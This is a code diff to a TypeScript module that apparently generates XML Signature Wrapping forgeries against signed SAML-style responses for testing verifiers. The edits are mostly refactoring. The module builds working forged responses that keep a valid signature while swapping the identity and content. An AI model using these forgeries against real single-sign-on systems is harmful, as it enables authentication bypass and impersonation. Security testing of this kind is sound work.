@@ -3,8 +3,8 @@
  * Be" (USENIX Security 2012), built by moving the parts of a validly signed response around. The signature
  * is never touched, so a verifier that only asks "does some signature verify?" says yes to every one.
  */
-import { DOMParser } from '@xmldom/xmldom';
-import type { Element } from '@xmldom/xmldom';
+import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
+import type { Node } from '@xmldom/xmldom';
 import { SignedXml } from 'xml-crypto';
 
 const DSIG_NS = 'http://www.w3.org/2000/09/xmldsig#';
@@ -48,15 +48,16 @@ export interface XswForgery {
 export function wrapSignature(variant: XswVariant, signedXml: string, forgery: XswForgery): string {
   const signature = single(signedXml, /<ds:Signature[\s\S]*?<\/ds:Signature>/g, 'ds:Signature');
   const forge = (element: string): string =>
-    element.replace(/ ID="[^"]*"/, ` ID="${forgery.forgedId}"`).split(forgery.from).join(forgery.to);
+    element
+      .replace(/ ID="[^"]*"/, ` ID="${forgery.forgedId}"`)
+      .split(forgery.from)
+      .join(forgery.to);
 
   if (signedPartOf(variant) === 'response') {
     const original = signedXml.replace(signature, '');
     const forged = forge(original);
     const carried =
-      variant === 'XSW1'
-        ? insertBefore(signature, SIGNATURE_END, original)
-        : `${original}${signature}`;
+      variant === 'XSW1' ? insertBefore(signature, SIGNATURE_END, original) : `${original}${signature}`;
     return insertAfterFirst(forged, ISSUER_END, carried);
   }
 
@@ -103,7 +104,8 @@ export function signatureStillVerifies(xml: string, certificatePem: string): boo
   const signatures = document.getElementsByTagNameNS(DSIG_NS, 'Signature');
   if (signatures.length !== 1) throw new TypeError(`expected one signature, found ${signatures.length}`);
   const verifier = new SignedXml({ publicCert: certificatePem });
-  verifier.loadSignature(signatures[0] as Element);
+  // Handed over as text: xml-crypto is typed against its own copy of the DOM types.
+  verifier.loadSignature(new XMLSerializer().serializeToString(signatures[0] as Node));
   try {
     return verifier.checkSignature(xml);
   } catch {
@@ -114,7 +116,8 @@ export function signatureStillVerifies(xml: string, certificatePem: string): boo
 function single(xml: string, pattern: RegExp, what: string): string {
   const found = xml.match(pattern) ?? [];
   const only = found[0];
-  if (found.length !== 1 || only === undefined) throw new TypeError(`expected one ${what}, found ${found.length}`);
+  if (found.length !== 1 || only === undefined)
+    throw new TypeError(`expected one ${what}, found ${found.length}`);
   return only;
 }
 
